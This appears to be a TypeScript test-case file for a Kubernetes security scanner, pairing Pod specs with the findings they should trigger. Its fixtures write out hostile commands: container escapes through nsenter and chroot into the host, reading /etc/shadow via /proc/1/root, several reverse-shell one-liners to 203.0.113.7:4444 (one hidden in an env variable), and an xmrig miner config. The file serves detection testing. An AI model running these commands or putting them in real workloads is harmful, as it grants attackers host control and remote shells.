import { cleanContainer, cleanPodSpec, pod, podWithContainerSc, workload } from '../fixtures.js';
import type { Case } from './case.js';

/** A Pod whose one container runs `command` (and `args`), with `extra` container fields. */
const running = (command: string[], args?: string[], extra: Record<string, unknown> = {}) =>
  pod(
    cleanPodSpec({ containers: [cleanContainer('app', { command, ...(args ? { args } : {}), ...extra })] }),
  );

const sh = (script: string) => running(['/bin/sh', '-c', script]);

/** A privileged Pod with hostPID and the node's / mounted at `mountPath`, running `script`. */
const escaping = (script: string, mountPath = '/node-root') =>
  pod(
    cleanPodSpec({
      hostPID: true,
      volumes: [{ name: 'root', hostPath: { path: '/' } }],
      containers: [
        cleanContainer(
          'app',
          { command: ['sh', '-c', script], volumeMounts: [{ name: 'root', mountPath }] },
          { privileged: true },
        ),
      ],
    }),
  );
const ESCAPING = ['workload.privileged', 'workload.host-pid', 'workload.hostpath-runtime-socket'];

/** Service account tokens, explicit privilege escalation and the command heuristics. */
export const WORKLOAD_PATH_CASES: Case[] = [
  {
    name: 'a named service account with the token mounted by default',
    obj: pod(cleanPodSpec({ automountServiceAccountToken: undefined })),
    want: ['workload.service-account-token-automount'],
  },
  {
    name: 'automountServiceAccountToken: true on the default service account',
    obj: workload(
      'Deployment',
      cleanPodSpec({ serviceAccountName: 'default', automountServiceAccountToken: true }),
    ),
    want: ['workload.service-account-token-automount'],
  },
  {
    name: 'the default service account, automount not set',
    obj: pod(cleanPodSpec({ serviceAccountName: undefined, automountServiceAccountToken: undefined })),
    want: [],
    negativeFor: 'workload.service-account-token-automount',
  },
  {
    name: 'a named service account with automountServiceAccountToken: false',
    obj: pod(cleanPodSpec({ serviceAccountName: 'deployer', automountServiceAccountToken: false })),
    want: [],
    negativeFor: 'workload.service-account-token-automount',
  },
  {
    name: 'allowPrivilegeEscalation: true set explicitly',
    obj: podWithContainerSc({ allowPrivilegeEscalation: true }),
    want: ['workload.privilege-escalation-explicit', 'workload.privilege-escalation-allowed'],
  },
  {
    name: 'allowPrivilegeEscalation unset is not explicit',
    obj: podWithContainerSc({ allowPrivilegeEscalation: undefined }),
    want: ['workload.privilege-escalation-allowed'],
    negativeFor: 'workload.privilege-escalation-explicit',
  },
  {
    name: 'nsenter into PID 1',
    obj: running(['nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'bash']),
    want: ['heuristic.host-entry'],
  },
  {
    name: 'nsenter -t1 in a shell script',
    obj: sh('sleep 5; nsenter -t1 -m -u -i -n -p -- /bin/sh -c "id"'),
    want: ['heuristic.host-entry'],
  },
  {
    name: "chroot into the container's hostPath mount of /",
    obj: escaping('chroot /node-root /bin/bash'),
    want: [...ESCAPING, 'heuristic.host-entry'],
  },
  {
    name: 'chroot /host',
    obj: running(['chroot', '/host/'], ['/bin/sh']),
    want: ['heuristic.host-entry'],
  },
  {
    name: "PID 1's root directory",
    obj: sh('cat /proc/1/root/etc/shadow'),
    want: ['heuristic.host-entry'],
  },
  {
    name: 'nsenter into its own namespaces, chroot into its own directory',
    obj: escaping('nsenter -t 12 -n ip addr; chroot /srv/jail /bin/true; ls /proc/1/status'),
    want: ESCAPING,
    negativeFor: 'heuristic.host-entry',
  },
  {
    name: 'bash -i on /dev/tcp',
    obj: running(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']),
    want: ['heuristic.reverse-shell'],
  },
  {
    name: 'nc -e /bin/sh',
    obj: running(['nc'], ['-e', '/bin/sh', '203.0.113.7', '4444']),
    want: ['heuristic.reverse-shell'],
  },
  {
    name: 'mkfifo and netcat',
    obj: sh('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f'),
    want: ['heuristic.reverse-shell'],
  },
  {
    name: 'socat exec:bash',
    obj: running(['socat'], ['exec:bash -li,pty,stderr,setsid,sigint,sane', 'tcp:203.0.113.7:4444']),
    want: ['heuristic.reverse-shell'],
  },
  {
    name: 'python socket and pty',
    obj: running([
      'python3',
      '-c',
      'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
    ]),
    want: ['heuristic.reverse-shell'],
  },
  {
    name: 'a reverse shell in an env value',
    obj: running(['sh', '-c', 'eval "$BOOT"'], undefined, {
      env: [{ name: 'BOOT', value: 'sh -i >& /dev/udp/203.0.113.7/53 0>&1' }],
    }),
    want: ['heuristic.reverse-shell'],
  },
  {
    name: 'health checks with nc -z and /dev/tcp, bash -c echo ok, python app.py',
    obj: pod(
      cleanPodSpec({
        initContainers: [
          cleanContainer('wait-db', { command: ['sh', '-c', 'until nc -z db 5432; do sleep 1; done'] }),
        ],
        containers: [
          cleanContainer('app', { command: ['python'], args: ['app.py', '--port', '8080'] }),
          cleanContainer('probe', {
            command: [
              'bash',
              '-c',
              'echo ok; exec 3<>/dev/tcp/localhost/8080; echo -e "GET / HTTP/1.0\\r\\n" >&3; cat <&3',
            ],
          }),
          cleanContainer('proxy', { command: ['socat', 'TCP-LISTEN:8081,fork', 'TCP:localhost:8080'] }),
          cleanContainer('ssh', { command: ['ssh', '-i', '/keys/id', 'backup@example.com'] }),
        ],
      }),
    ),
    want: [],
    negativeFor: 'heuristic.reverse-shell',
  },
  {
    name: 'xmrig with a stratum pool',
    obj: workload(
      'Deployment',
      cleanPodSpec({
        containers: [
          cleanContainer('worker', {
            command: ['/opt/xmrig'],
            args: ['-o', 'stratum+tcp://pool.example.net:3333', '-u', 'WALLET', '--donate-level', '1'],
          }),
        ],
      }),
    ),
    want: ['heuristic.miner'],
  },
  {
    name: 'a miner image with its pool in env',
    obj: pod(
      cleanPodSpec({
        containers: [
          cleanContainer('app', {
            image:
              'docker.io/someone/xmrig:6.21.0@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef',
            env: [{ name: 'POOL', value: 'gulf.moneroocean.stream:10128' }],
          }),
        ],
      }),
    ),
    want: ['heuristic.miner'],
  },
  {
    name: 'benign words near miner names (mining data, a stratum of layers, pool sizes)',
    obj: running(['python'], ['-m', 'datamining.train', '--pool-size', '4', '--stratum-layers', '3'], {
      env: [{ name: 'DB_POOL', value: 'postgres://db.example.com/pool' }],
    }),
    want: [],
    negativeFor: 'heuristic.miner',
  },
];
